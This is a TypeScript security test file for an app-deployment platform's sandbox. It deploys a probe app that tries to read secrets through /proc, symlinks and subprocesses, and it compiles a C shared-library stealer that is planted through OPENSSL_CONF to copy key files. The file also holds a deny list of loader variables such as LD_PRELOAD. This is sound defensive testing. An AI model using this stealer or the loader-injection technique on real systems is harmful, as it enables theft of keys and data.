import { test } from '@japa/runner'
import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import db from '@adonisjs/lucid/services/db'
import encryption from '@adonisjs/core/services/encryption'
import { dbTime } from '#lib/db_time'
import { appIdentity } from '../../plugins/process/sandbox.js'
import env from '#start/env'
import xbasis from '#config/xbasis'
import deploy from '#deploy/deploy_manager'
import { apiAccount } from '#tests/helpers/ai'
import { truncateAll } from '#tests/helpers/services'
import { PROJECT_ROOT } from '#tests/helpers/platform_process'
import { WebClient } from '#tests/helpers/web_client'

type Account = Awaited<ReturnType<typeof apiAccount>>
const platform = new WebClient().baseUrl

/**
 * Acceptance 6: a generated app deployed by the platform (process target,
 * through the API) tries to read the platform's environment, its database
 * and data, and another project's repository and deployed files, and
 * reports what it got over HTTP. Everything must be refused.
 */
const PROBE_APP = {
  'package.json': JSON.stringify({ name: 'probe', version: '1.0.0', private: true, scripts: { start: 'node server.js' } }, null, 2),
  'server.js': `const http = require('node:http')
const fs = require('node:fs')
const path = require('node:path')
const attempt = (f) => { try { return { ok: true, value: String(f()).slice(0, 200) } } catch (e) { return { ok: false, code: e.code || e.message } } }
http.createServer((req, res) => {
  const url = new URL(req.url, 'http://app')
  if (url.pathname === '/health') return res.end('ok')
  if (url.pathname !== '/probe') return res.end('probe')
  const paths = JSON.parse(Buffer.from(url.searchParams.get('p'), 'base64url').toString())
  const out = { env: process.env, own: attempt(() => fs.readFileSync(__filename, 'utf8')), files: {}, dirs: {}, links: {}, relativeLinks: {} }
  out.parentEnviron = attempt(() => fs.readFileSync('/proc/' + process.ppid + '/environ', 'utf8'))
  out.subprocess = attempt(() => require('node:child_process').execFileSync('cat', [paths[0]]))
  out.worker = attempt(() => new (require('node:worker_threads').Worker)('require("fs").readFileSync(' + JSON.stringify(paths[0]) + ')', { eval: true }))
  for (const p of paths) {
    out.files[p] = attempt(() => fs.readFileSync(p, 'utf8'))
    out.dirs[p] = attempt(() => fs.readdirSync(path.dirname(p)).join(','))
    const link = path.join(__dirname, 'link-' + Math.random().toString(36).slice(2))
    out.links[p] = attempt(() => { fs.symlinkSync(p, link); return fs.readFileSync(link, 'utf8') })
    out.relativeLinks[p] = attempt(() => { fs.symlinkSync(path.relative(__dirname, p), link + 'r'); return fs.readFileSync(link + 'r', 'utf8') })
  }
  res.setHeader('content-type', 'application/json')
  res.end(JSON.stringify(out))
}).listen(Number(process.env.PORT), process.env.HOST)
`,
}

async function waitLive(account: Account, id: number) {
  for (let i = 0; i < 300; i++) {
    const { body } = await account.json('GET', `/api/v1/deployments/${id}`)
    if (['live', 'failed'].includes(body.deployment.status)) return body.deployment
    await new Promise((r) => setTimeout(r, 100))
  }
  throw new Error(`deployment ${id} never ended`)
}

async function deployed(account: Account) {
  const created = await account.json('POST', `/api/v1/projects/${account.project.id}/deployments`, { environment: 'preview' })
  const deployment = await waitLive(account, created.body.deployment.id)
  const row = await db.from('deployments').where('id', deployment.id).first()
  const handle = typeof row.handle === 'string' ? JSON.parse(row.handle) : row.handle
  return { deployment, dir: handle.data.dir as string }
}

test.group('Deployments: isolation of generated apps (process target)', (group) => {
  group.each.setup(() => truncateAll())
  group.teardown(async () => {
    const driver = await deploy.use('process')
    for (const row of await db.from('deployments').whereNotNull('handle')) await driver.destroy(typeof row.handle === 'string' ? JSON.parse(row.handle) : row.handle).catch(() => {})
  })

  test("an app cannot read the platform's environment, database and data, or another project's files", async ({ assert }) => {
    const marker = `platform-only-${Math.random().toString(36).slice(2)}`
    process.env.XBASIS_ISOLATION_MARKER = marker
    const appKey = env.get('APP_KEY')

    // Bob's project: a generated app, deployed; its repository and working copy are on this machine.
    const bob = await apiAccount('Bob')
    await bob.json('POST', `/api/v1/projects/${bob.project.id}/messages`, { content: 'a landing page with a waitlist', provider: 'offline' })
    const bobs = await deployed(bob)
    assert.equal(bobs.deployment.status, 'live', bobs.deployment.reason)

    // Alice's project: first a generated app (an earlier deployment of hers), then the probe.
    const alice = await apiAccount('Alice')
    await alice.json('POST', `/api/v1/projects/${alice.project.id}/messages`, { content: 'a landing page', provider: 'offline' })
    const earlier = await deployed(alice)
    for (const [path, content] of Object.entries(PROBE_APP)) {
      await alice.json('PUT', `/api/v1/projects/${alice.project.id}/files/${path}`, { content })
    }
    const probe = await deployed(alice)
    assert.equal(probe.deployment.status, 'live', probe.deployment.reason)

    const secrets: string[] = [
      join(bobs.dir, 'app', 'server.js'), // another project's deployed files
      join(bobs.dir, 'deploy.log'),
      join(xbasis.paths.projects, `${bob.project.id}.git`, 'HEAD'), // another project's repository
      join(xbasis.paths.projects, `${bob.project.id}.git`, 'config'),
      join(xbasis.paths.projects, `${alice.project.id}.git`, 'HEAD'), // even its own repository: only the working copy is the app's
      join(earlier.dir, 'app', 'server.js'), // another deployment of the same project
      join(PROJECT_ROOT, 'package.json'), // the platform's code and configuration
      join(PROJECT_ROOT, '.env.test'),
    ]
    if (env.get('DB_CONNECTION', 'sqlite') === 'sqlite') secrets.push(resolve(xbasis.paths.database))
    for (const path of secrets) assert.isTrue(existsSync(path), `${path} exists (the probe would prove nothing otherwise)`)

    const query = Buffer.from(JSON.stringify(secrets)).toString('base64url')
    const response = await fetch(`${platform}/apps/${new URL(probe.deployment.url).hostname.split('.')[0]}/probe?p=${query}`)
    assert.equal(response.status, 200)
    const report = (await response.json()) as any

    assert.isTrue(report.own.ok, 'the app reads its own files')
    assert.include(report.own.value, 'node:http')

    // The environment: the platform's own variables and secrets never reach the app.
    for (const key of ['APP_KEY', 'XBASIS_ISOLATION_MARKER', 'PG_PASSWORD', 'PG_USER', 'DB_CONNECTION', 'REDIS_HOST', 'DATA_DIR']) {
      assert.notProperty(report.env, key)
    }
    const seen = JSON.stringify(report.env)
    assert.notInclude(seen, marker)
    if (appKey) assert.notInclude(seen, appKey)
    assert.deepEqual(report.parentEnviron.code, 'ERR_ACCESS_DENIED', 'not through /proc either')

    for (const path of secrets) {
      assert.deepEqual(report.files[path], { ok: false, code: 'ERR_ACCESS_DENIED' }, `read ${path}`)
      assert.deepEqual(report.dirs[path], { ok: false, code: 'ERR_ACCESS_DENIED' }, `list the folder of ${path}`)
      assert.deepEqual(report.links[path], { ok: false, code: 'ERR_ACCESS_DENIED' }, `a symbolic link to ${path}`)
      assert.deepEqual(report.relativeLinks[path], { ok: false, code: 'ERR_ACCESS_DENIED' }, `a relative symbolic link to ${path}`)
    }
    assert.isFalse(report.subprocess.ok, 'no other program')
    assert.isFalse(report.worker.ok, 'no worker thread')
    delete process.env.XBASIS_ISOLATION_MARKER
  }).timeout(120_000)
})

/**
 * Issue 10, item 2: the attack as it was found. The project names
 * OPENSSL_CONF; the app writes an OpenSSL provider (a .so) and a config into
 * its own folder, crashes, and is restarted with the variable: OpenSSL loads
 * the .so at start, outside Node's permission model, and its constructor
 * copies DATA_DIR/app.key into the app's folder. The .so is compiled here
 * (gcc) with the paths to steal written into it.
 */
function compileStealer(targets: string[]) {
  const dir = mkdtempSync(join(tmpdir(), 'xbasis-stealer-'))
  const source = `#include <stdio.h>
#include <stdlib.h>
static const char *targets[] = { ${targets.map((t) => JSON.stringify(t)).join(', ')}, 0 };
__attribute__((constructor)) static void steal(void) {
  const char *dst = getenv("LOOT"); if (!dst) dst = "loot.txt";
  FILE *out = fopen(dst, "w"); if (!out) return;
  for (int i = 0; targets[i]; i++) {
    FILE *in = fopen(targets[i], "r");
    if (!in) { fprintf(out, "denied %s\\n", targets[i]); continue; }
    char buf[4096]; size_t n; fprintf(out, "read %s: ", targets[i]);
    while ((n = fread(buf, 1, sizeof buf, in)) > 0) fwrite(buf, 1, n, out);
    fprintf(out, "\\n"); fclose(in);
  }
  fclose(out);
}
typedef struct { int id; void (*fn)(void); } dispatch;
static const dispatch none[] = { { 0, 0 } };
int OSSL_provider_init(const void *h, const void *in, const dispatch **out, void **ctx) { *out = none; *ctx = 0; return 1; }
`
  writeFileSync(join(dir, 'stealer.c'), source)
  try {
    execFileSync('gcc', ['-shared', '-fPIC', '-o', join(dir, 'stealer.so'), join(dir, 'stealer.c')])
  } catch (error) {
    throw new Error(`this test compiles an OpenSSL provider with gcc: apt-get install -y gcc (${(error as Error).message})`)
  }
  const so = readFileSync(join(dir, 'stealer.so')).toString('base64')
  rmSync(dir, { recursive: true, force: true })
  return so
}

const ATTACK_APP = (stealerBase64: string) => ({
  'package.json': JSON.stringify({ name: 'attack', version: '1.0.0', private: true, scripts: { start: 'node server.js' } }),
  'stealer.b64': stealerBase64,
  'server.js': `const http = require('node:http')
const fs = require('node:fs')
const path = require('node:path')
const here = (f) => path.join(__dirname, f)
http.createServer((req, res) => {
  if (req.url === '/health') return res.end('ok')
  if (req.url === '/plant') {
    fs.writeFileSync(here('stealer.so'), Buffer.from(fs.readFileSync(here('stealer.b64'), 'utf8'), 'base64'))
    fs.writeFileSync(here('openssl.cnf'), 'nodejs_conf = init\\n[init]\\nproviders = prov\\n[prov]\\ndefault = default_sect\\nevil = evil_sect\\n[default_sect]\\nactivate = 1\\n[evil_sect]\\nmodule = ' + here('stealer.so') + '\\nactivate = 1\\n')
    res.end('planted')
    return setTimeout(() => process.exit(1), 20)
  }
  res.setHeader('content-type', 'application/json')
  let loot = null
  try { loot = fs.readFileSync(here('loot.txt'), 'utf8') } catch {}
  res.end(JSON.stringify({ pid: process.pid, uid: process.getuid(), gid: process.getgid(), opensslConf: process.env.OPENSSL_CONF ?? null, loot }))
}).listen(Number(process.env.PORT), process.env.HOST)
`,
})

test.group('Deployments: loader and runtime variables (process target)', (group) => {
  group.each.setup(() => truncateAll())
  group.teardown(async () => {
    const driver = await deploy.use('process')
    for (const row of await db.from('deployments').whereNotNull('handle')) await driver.destroy(typeof row.handle === 'string' ? JSON.parse(row.handle) : row.handle).catch(() => {})
  })

  test('OPENSSL_CONF cannot load native code into an app, and native code in an app cannot read DATA_DIR', async ({ assert }) => {
    const keyFile = join(xbasis.dataDir, 'app.key')
    assert.isTrue(existsSync(keyFile), 'the instance keeps its generated key in DATA_DIR')
    const bob = await apiAccount('Bob')
    await bob.json('PUT', `/api/v1/projects/${bob.project.id}/files/server.js`, { content: 'bob' })
    const bobsRepo = join(xbasis.paths.projects, `${bob.project.id}.git`, 'config')
    const stolen = [resolve(keyFile), resolve(bobsRepo)]
    if (env.get('DB_CONNECTION', 'sqlite') === 'sqlite') stolen.push(resolve(xbasis.paths.database))
    for (const path of stolen) assert.isTrue(existsSync(path), `${path} exists`)

    const mallory = await apiAccount('Mallory')
    const envUrl = `/api/v1/projects/${mallory.project.id}/env`
    // The project env API refuses every loader/runtime family, with the reason.
    for (const [name, reason] of [
      ['OPENSSL_CONF', /OpenSSL reads it/],
      ['OPENSSL_MODULES', /OpenSSL reads it/],
      ['SSL_CERT_FILE', /OpenSSL reads it/],
      ['GCONV_PATH', /loader or C library/],
      ['LOCPATH', /loader or C library/],
      ['HOSTALIASES', /loader or C library/],
      ['MALLOC_CHECK_', /loader or C library/],
      ['LD_PRELOAD', /loader or C library/],
      ['NODE_OPTIONS', /Node\.js reads it/],
      ['PREFIX', /npm or git/],
      ['NPM_CONFIG_USERCONFIG', /npm or git/],
      ['PYTHONPATH', /another language runtime/],
      ['PERL5OPT', /another language runtime/],
      ['TMPDIR', /the platform sets it/],
    ] as const) {
      const answer = await mallory.json('PUT', envUrl, { name, value: 'openssl.cnf' })
      assert.equal(answer.status, 422, name)
      assert.equal(answer.body.errors[0].field, 'name')
      assert.match(answer.body.errors[0].message, new RegExp(`^${name} is reserved: `), name)
      assert.match(answer.body.errors[0].message, reason, name)
    }
    assert.equal((await mallory.json('PUT', envUrl, { name: 'OPENSSL_LIKE_NAME_OK', value: 'x' })).status, 422)
    assert.equal((await mallory.json('PUT', envUrl, { name: 'STRIPE_KEY', value: 'sk_test' })).status, 201, 'ordinary names are the app’s')
    // A variable stored before the allow-list (or written to the table by anything else) never reaches the app.
    await db.table('project_env_vars').insert({
      project_id: mallory.project.id,
      key: 'OPENSSL_CONF',
      environment: 'all',
      value: encryption.encrypt('openssl.cnf'),
      secret: true,
      source: 'user',
      created_at: dbTime(),
      updated_at: dbTime(),
    })

    for (const [path, content] of Object.entries(ATTACK_APP(compileStealer(stolen)))) {
      assert.equal((await mallory.json('PUT', `/api/v1/projects/${mallory.project.id}/files/${path}`, { content })).status, 200, path)
    }
    const attack = await deployed(mallory)
    assert.equal(attack.deployment.status, 'live', attack.deployment.reason)
    const row = await db.from('deployments').where('id', attack.deployment.id).first()
    const appUrl = (typeof row.handle === 'string' ? JSON.parse(row.handle) : row.handle).url as string
    const report = async () => (await (await fetch(`${appUrl}/report`)).json()) as any
    const before = await report()
    assert.equal(await (await fetch(`${appUrl}/plant`)).text(), 'planted')
    // The target restarts the crashed app (back-off 1 s).
    let after: any = null
    for (let i = 0; i < 100 && !after; i++) {
      await new Promise((r) => setTimeout(r, 100))
      after = await report().then((r) => (r.pid !== before.pid ? r : null), () => null)
    }
    assert.isNotNull(after, 'the app was restarted')
    assert.isNull(after.opensslConf, 'the restarted app did not get OPENSSL_CONF')
    assert.isNull(after.loot, 'nothing was loaded, nothing stolen')
    assert.isFalse(existsSync(join(attack.dir, 'app', 'loot.txt')))

    // The app runs as an unprivileged user of its own…
    const identity = appIdentity(mallory.project.id, 'preview')!
    assert.deepEqual({ uid: after.uid, gid: after.gid }, identity)
    assert.notEqual(after.uid, process.getuid!())

    // …so even if a loader variable got through, the native code would run as
    // that user: run the planted provider exactly as a restart with
    // OPENSSL_CONF would have, as the app's user, and as the platform's.
    const appDir = join(attack.dir, 'app')
    const run = (loot: string, asApp: boolean) => {
      const result = spawnSync(process.execPath, ['-e', 'require("node:crypto").randomBytes(1)'], {
        cwd: appDir,
        env: { PATH: '/usr/bin:/bin', OPENSSL_CONF: join(appDir, 'openssl.cnf'), LOOT: loot },
        ...(asApp ? identity : {}),
      })
      assert.equal(result.status, 0, String(result.stderr))
      return readFileSync(loot, 'utf8')
    }
    const asPlatform = run(join(mkdtempSync(join(tmpdir(), 'xbasis-loot-')), 'loot.txt'), false)
    assert.include(asPlatform, `read ${resolve(keyFile)}: ${readFileSync(keyFile, 'utf8').trim()}`, 'the planted provider does steal when it runs as the platform’s user')
    const asApp = run(join(attack.dir, 'tmp', 'loot.txt'), true)
    for (const path of stolen) assert.include(asApp, `denied ${path}`, path)
    assert.notInclude(asApp, 'read ')
  }).timeout(120_000)
})
